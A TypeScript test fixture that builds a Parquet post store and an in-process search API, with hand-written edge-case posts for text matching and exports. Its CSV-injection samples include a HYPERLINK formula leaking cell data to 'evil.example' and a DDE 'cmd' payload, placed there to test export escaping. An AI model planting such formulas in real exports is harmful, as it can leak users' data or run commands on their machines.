// A Parquet store for API tests, written by the writer's own code (batch rows and
// the Parquet sink) from seeded replay data plus hand-written posts for the
// matching edge cases, and an in-process API over it.
//
// Expected answers are computed here from the raw events, independently of the
// API's SQL: a plain JavaScript reading of the records.

import { generateFrames } from '../../loadtest/jetstream-replay/generator.ts';
import { openDuckDB, type DuckDBConnection } from '../../services/shared/duckdb.ts';
import { createLogger } from '../../services/shared/logger.ts';
import { buildBatchRows } from '../../services/writer/batch.ts';
import { ParquetSink } from '../../services/writer/parquet-sink.ts';
import { compactPartition, findCompactionWork } from '../../services/writer/compaction.ts';
import { loadApiConfig } from '../../services/api/config.ts';
import { createApi, type Api } from '../../services/api/server.ts';
import { createRedis } from '../../services/shared/redis.ts';
import { ApiKeyStore, SCOPES } from '../../services/api/auth/keys.ts';
import { mkdtemp, rm } from 'node:fs/promises';
import type { InjectOptions } from 'fastify';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export const WINDOW_START = Date.parse('2026-11-20T00:00:00Z');
export const WINDOW_END = Date.parse('2026-11-21T00:00:00Z');
const START_US = WINDOW_START * 1000 + 1_000_000;
const STEP_US = 4_000_000; // 20,000 events over ~22 hours

export const SPECIAL_DID = 'did:plc:specialspecialspecial0001';
export const SPECIAL_HANDLE = 'edge-cases.example.com';

/** Hand-written posts exercising the matching rules, one hour into the window. */
export const SPECIAL_TEXTS = [
  'Progress: 100% done',
  'a 100 percent effort',
  'snake_case_name here',
  'snakeXcaseYname there',
  'She said "hello" loudly',
  "it's a quote with an apostrophe",
  'I love 🦋 butterflies',
  'such a lovely day',
  '東京の天気は晴れ',
  'ÉCOLE primaire',
  'une école',
  'back\\slash and \\Q regex \\E markers',
  // Where the term index meets the edges of matching (test/term-index.test.ts):
  // words at both ends, punctuation and emoji against words, words inside words,
  // scripts without spaces, case folding beyond ASCII, combining marks, spacing.
  'Coffee at the start, and at the end: coffee',
  'pre-coffee(coffee)coffee-post',
  'decafcoffee and coffeehouse',
  'I ❤️ Tokyo🗼and 🌊waves🌊',
  '東京2026年のcoffeeタイム、ラーメン食べたい',
  'ΣΊΣΥΦΟΣ and σίσυφος',
  'İstanbul and ıstanbul, Kelvin 5\u212A',
  'ſtraße STRASSE',
  'a\u0345 ypogegrammeni, e\u0301cole decomposed',
  'multi  word   spacing\tand\nnewlines',
  'CamelCaseWord and UPPER lower MiXeD',
  'ＦＵＬＬＷＩＤＴＨ ｌｅｔｔｅｒｓ',
  'สวัสดีครับ ภาษาไทย',
  'v1.2.3 costs 3.14, call 123-456',
  'deleted later: secret words',
] as const;

export interface PostFact {
  uri: string;
  did: string;
  rkey: string;
  timeUs: number;
  text: string | null;
  langs: string[];
  hashtags: string[];
  /** DIDs of #mention facets. */
  mentions: string[];
  /** URIs of #link facets and of an external embed. */
  links: string[];
  hasMedia: boolean;
  isReply: boolean;
}

export const SYNTAX_DID = 'did:plc:querysyntaxexamples0001';
export const SYNTAX_HANDLE = 'syntax-examples.example.com';

export interface SyntaxPost {
  text: string;
  langs: string[];
  /** DIDs mentioned (#mention facets). */
  mentions?: string[];
  /** #link facet URIs. */
  links?: string[];
  /** An external embed (a link card). */
  card?: string;
  /** #tag facets. */
  tags?: string[];
}

/**
 * Hand-written posts of SYNTAX_DID for the search syntax (q) and the exports, two
 * hours into the window: mentions, links (a host in capitals with www. and a port,
 * a subdomain, a card), hashtags, languages, and texts that spreadsheets would run
 * as formulas (CSV injection), with hostile links and hashtags of their own.
 */
export const SYNTAX_POSTS: readonly SyntaxPost[] = [
  { text: 'Morning coffee with @edge-cases.example.com', langs: ['en'], mentions: [SPECIAL_DID] },
  { text: 'coffee this morning, black', langs: ['en'] },
  { text: 'Coffee and tea, both', langs: ['en'] },
  { text: 'Tea time: example.com/tea', langs: ['en'], links: ['https://WWW.Example.com:443/tea?ref=bsky'] },
  { text: 'Café au lait #CoffeeTime', langs: ['fr'], tags: ['CoffeeTime'], links: ['https://blog.example.com/cafe'] },
  { text: 'Le café du matin', langs: ['fr-CA'], card: 'https://www.example.org/matin' },
  { text: '=HYPERLINK("https://evil.example/?leak="&A1, "click me")', langs: ['en'], tags: ['=1+1', 'formulas'], links: ["=cmd|' /C calc'!A0"] },
  { text: '+SUM(1,1)', langs: ['en'], tags: ['formulas'] },
  { text: '-2+3', langs: ['en'], tags: ['formulas'] },
  { text: '@SUM(A1:A2)', langs: ['en'], tags: ['formulas'] },
  { text: '  =1+1 after spaces', langs: ['en'], tags: ['formulas'] },
  { text: '＝1+1 full-width', langs: ['en'], tags: ['formulas'] },
  { text: '\t=1+1 after a tab', langs: ['en'], tags: ['controlformulas'] },
  { text: '\r=1+1 after a carriage return', langs: ['en'], tags: ['controlformulas'] },
  { text: '\u200B=1+1 after a zero-width space', langs: ['en'], tags: ['controlformulas'] },
  { text: '抹茶\u3000matcha\u3000latte break', langs: ['ja'] }, // ideographic spaces between words
];

/** SYNTAX_POSTS as posts of SYNTAX_DID a second apart from `base` (µs), and the author's handle. */
export function syntaxFrames(base = WINDOW_START * 1000 + 2 * 3_600_000_000): string[] {
  const frames = SYNTAX_POSTS.map((post, i) => {
    const timeUs = base + i * 1_000_000;
    const facet = (feature: Record<string, unknown>) => ({ index: { byteStart: 0, byteEnd: 1 }, features: [feature] });
    const facets = [
      ...(post.mentions ?? []).map((did) => facet({ $type: 'app.bsky.richtext.facet#mention', did })),
      ...(post.links ?? []).map((uri) => facet({ $type: 'app.bsky.richtext.facet#link', uri })),
      ...(post.tags ?? []).map((tag) => facet({ $type: 'app.bsky.richtext.facet#tag', tag })),
    ];
    const record: Record<string, unknown> = { $type: 'app.bsky.feed.post', createdAt: new Date(timeUs / 1000).toISOString(), langs: post.langs, text: post.text };
    if (facets.length > 0) record.facets = facets;
    if (post.card) record.embed = { $type: 'app.bsky.embed.external', external: { uri: post.card, title: 'a card', description: '' } };
    return JSON.stringify({
      did: SYNTAX_DID,
      time_us: timeUs,
      kind: 'commit',
      commit: { rev: tid(timeUs, 1), operation: 'create', collection: 'app.bsky.feed.post', rkey: tid(timeUs, 2), record, cid: 'bafyreisyntax' },
    });
  });
  const later = base + 100_000_000;
  frames.push(JSON.stringify({ did: SYNTAX_DID, time_us: later, kind: 'identity', identity: { did: SYNTAX_DID, handle: SYNTAX_HANDLE, seq: 3, time: new Date().toISOString() } }));
  return frames;
}

export interface ApiFixture {
  dataDir: string;
  frames: string[];
  /** Posts that search may return: created in the window and not deleted. */
  posts: PostFact[];
  /** Every created post, deleted or not. */
  allPosts: PostFact[];
  deletedPostUris: Set<string>;
  handles: Map<string, string>;
  connection: DuckDBConnection;
  close(): Promise<void>;
}

function tid(us: number, clock: number): string {
  const alphabet = '234567abcdefghijklmnopqrstuvwxyz';
  let value = (BigInt(us) << 10n) | BigInt(clock);
  let out = '';
  for (let i = 0; i < 13; i++) {
    out = alphabet[Number(value & 31n)]! + out;
    value >>= 5n;
  }
  return out;
}

/** SPECIAL_TEXTS as posts of SPECIAL_DID a second apart from `base` (µs), the last one deleted, and the author's handles. */
export function specialFrames(base = WINDOW_START * 1000 + 3_600_000_000): string[] {
  const frames: string[] = [];
  SPECIAL_TEXTS.forEach((text, i) => {
    const timeUs = base + i * 1_000_000;
    frames.push(
      JSON.stringify({
        did: SPECIAL_DID,
        time_us: timeUs,
        kind: 'commit',
        commit: {
          rev: tid(timeUs, 1),
          operation: 'create',
          collection: 'app.bsky.feed.post',
          rkey: tid(timeUs, 2),
          record: { $type: 'app.bsky.feed.post', createdAt: new Date(timeUs / 1000).toISOString(), langs: i % 2 ? ['en-US'] : ['fr'], text },
          cid: 'bafyreispecial',
        },
      }),
    );
  });
  // Delete the last one; give the author a handle (an older one first).
  const deleted = JSON.parse(frames.at(-1)!) as { commit: { rkey: string } };
  const later = base + 100_000_000;
  frames.push(JSON.stringify({ did: SPECIAL_DID, time_us: later, kind: 'commit', commit: { rev: tid(later, 3), operation: 'delete', collection: 'app.bsky.feed.post', rkey: deleted.commit.rkey } }));
  frames.push(JSON.stringify({ did: SPECIAL_DID, time_us: later + 1, kind: 'identity', identity: { did: SPECIAL_DID, handle: 'old-name.example.com', seq: 1, time: new Date().toISOString() } }));
  frames.push(JSON.stringify({ did: SPECIAL_DID, time_us: later + 2, kind: 'identity', identity: { did: SPECIAL_DID, handle: SPECIAL_HANDLE, seq: 2, time: new Date().toISOString() } }));
  return frames;
}

const MEDIA = new Set(['app.bsky.embed.images', 'app.bsky.embed.video', 'app.bsky.embed.gallery']);

/** What the API should know, read straight from the raw events. */
function facts(frames: readonly string[]): { posts: PostFact[]; deleted: Set<string>; handles: Map<string, string> } {
  const posts: PostFact[] = [];
  const deleted = new Set<string>();
  const handles = new Map<string, { handle: string; timeUs: number }>();
  for (const frame of frames) {
    let e: any;
    try {
      e = JSON.parse(frame);
    } catch {
      continue;
    }
    if (typeof e?.did !== 'string' || typeof e.time_us !== 'number') continue;
    if (e.kind === 'identity' && typeof e.identity?.handle === 'string') {
      const known = handles.get(e.did);
      if (!known || known.timeUs < e.time_us) handles.set(e.did, { handle: e.identity.handle.toLowerCase(), timeUs: e.time_us });
    }
    if (e.kind !== 'commit' || e.commit?.collection !== 'app.bsky.feed.post') continue;
    const uri = `at://${e.did}/app.bsky.feed.post/${e.commit.rkey}`;
    if (e.commit.operation === 'delete') deleted.add(uri);
    if (e.commit.operation !== 'create') continue;
    const r = e.commit.record ?? {};
    const tags = new Set<string>();
    for (const facet of Array.isArray(r.facets) ? r.facets : []) {
      for (const f of Array.isArray(facet?.features) ? facet.features : []) {
        if (f?.$type === 'app.bsky.richtext.facet#tag' && typeof f.tag === 'string') tags.add(f.tag.replace(/^#/, '').toLowerCase());
      }
    }
    for (const t of Array.isArray(r.tags) ? r.tags : []) if (typeof t === 'string' && t) tags.add(t.replace(/^#/, '').toLowerCase());
    const embedType = r.embed?.$type;
    const mediaType = embedType === 'app.bsky.embed.recordWithMedia' ? r.embed?.media?.$type : embedType;
    const mentions = new Set<string>();
    const links = new Set<string>();
    for (const facet of Array.isArray(r.facets) ? r.facets : []) {
      for (const f of Array.isArray(facet?.features) ? facet.features : []) {
        if (f?.$type === 'app.bsky.richtext.facet#mention' && typeof f.did === 'string' && f.did) mentions.add(f.did);
        if (f?.$type === 'app.bsky.richtext.facet#link' && typeof f.uri === 'string' && f.uri) links.add(f.uri);
      }
    }
    const card = (embedType === 'app.bsky.embed.recordWithMedia' ? r.embed?.media : r.embed)?.external?.uri;
    if (typeof card === 'string' && card) links.add(card);
    posts.push({
      uri,
      did: e.did,
      rkey: e.commit.rkey,
      timeUs: e.time_us,
      text: typeof r.text === 'string' ? r.text : null,
      langs: Array.isArray(r.langs) ? r.langs.filter((l: unknown) => typeof l === 'string') : [],
      hashtags: [...tags],
      mentions: [...mentions],
      links: [...links],
      hasMedia: MEDIA.has(mediaType),
      isReply: typeof r.reply?.parent?.uri === 'string',
    });
  }
  return { posts, deleted, handles: new Map([...handles].map(([did, h]) => [did, h.handle])) };
}

/** Newest first, as the API orders results. */
export function newestFirst(posts: readonly PostFact[]): PostFact[] {
  const desc = (x: string, y: string) => (x < y ? 1 : x > y ? -1 : 0);
  return [...posts].sort((a, b) => b.timeUs - a.timeUs || desc(a.did, b.did) || desc(a.rkey, b.rkey));
}

/** Writes frames through the writer's code (batches of 2,500), then compacts the hours closed at `nowMs`. */
export async function writeStore(connection: DuckDBConnection, dataDir: string, frames: readonly string[], nowMs: number): Promise<void> {
  const sink = await ParquetSink.create(connection, dataDir);
  for (let i = 0; i < frames.length; i += 2500) {
    const entries = frames.slice(i, i + 2500).map((payload, j) => ({ id: `${1_790_000_000_000 + i}-${j}`, payload }));
    await sink.writeBatch(entries[0]!.id, buildBatchRows(entries).groups);
  }
  for (const work of await findCompactionWork(dataDir, nowMs, 0)) await compactPartition(connection, work);
}

export async function buildStore(dataDir: string): Promise<ApiFixture> {
  const frames = [...generateFrames({ seed: 31, mix: 'plan' }, 20_000, START_US, STEP_US).map((f) => f.text), ...specialFrames(), ...syntaxFrames()];
  const { instance, connection } = await openDuckDB({ threads: 2 });
  // The first hours compacted (with their term index), the rest left as batch files: queries must read both.
  await writeStore(connection, dataDir, frames, WINDOW_START + 6 * 3_600_000);
  const { posts, deleted, handles } = facts(frames);
  return {
    dataDir,
    frames,
    posts: posts.filter((p) => !deleted.has(p.uri)),
    allPosts: posts,
    deletedPostUris: deleted,
    handles,
    connection,
    close: async () => {
      connection.closeSync();
      (instance).closeSync();
    },
  };
}

/**
 * An in-process API. Authentication is on, as in production: the API keys live in
 * the shared test Redis under a prefix of the API's own, and a key with every scope
 * is created for the test; `app.inject` sends it unless a request sets its own
 * Authorization header of its own, and `authorization` is there for real
 * HTTP clients. `API_AUTH: 'off'` in `env` gives an API without keys (and without
 * Redis unless `redisUrl` is given). Rate limits are raised out of the way unless set.
 */
export interface TestApi extends Api {
  /** `Bearer <key>`, or undefined without authentication. */
  authorization: string | undefined;
  key: string | undefined;
  prefix: string;
}


export async function startTestApi(dataDir: string, env: Record<string, string> = {}, redisUrl?: string): Promise<TestApi> {
  const prefix = env.REDIS_PREFIX ?? `test-api-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
  const auditDir = await mkdtemp(join(tmpdir(), 'bpe-api-audit-'));
  const config = loadApiConfig({
    DATA_DIR: dataDir,
    LOG_LEVEL: 'warn',
    SEARCH_MAX_WINDOW_DAYS: '31',
    CACHE_TTL_SECONDS: '0',
    RATE_LIMIT_IP_MAX: '1000000',
    RATE_LIMIT_KEY_MAX: '1000000',
    RATE_LIMIT_EXPORT_MAX: '1000000',
    AUDIT_DIR: auditDir,
    ...env,
    REDIS_PREFIX: prefix,
  });
  const auth = config.API_AUTH === 'required';
  const url = redisUrl ?? (auth ? (process.env.TEST_REDIS_URL ?? 'redis://127.0.0.1:6379') : undefined);
  const redis = url ? createRedis(url, 'api-test') : undefined;
  if (redis) await redis.connect();
  const api = await createApi(config, createLogger('api', config.LOG_LEVEL), redis);
  const key = auth && redis ? (await new ApiKeyStore(redis, prefix).create('test', [...SCOPES])).key : undefined;
  const authorization = key ? `Bearer ${key}` : undefined;
  const inject = api.app.inject.bind(api.app);
  // Test-only: requests carry the test key unless they say otherwise.
  (api.app as { inject: unknown }).inject = (options: InjectOptions) =>
    inject({ ...options, headers: { ...(authorization ? { authorization } : {}), ...(options.headers ?? {}) } });
  return {
    ...api,
    authorization,
    key,
    prefix,
    close: async () => {
      await api.close();
      if (redis) {
        const keys = await redis.keys(`${prefix}:*`);
        if (keys.length > 0) await redis.del(...keys);
        redis.disconnect();
      }
      await rm(auditDir, { recursive: true, force: true });
    },
  };
}
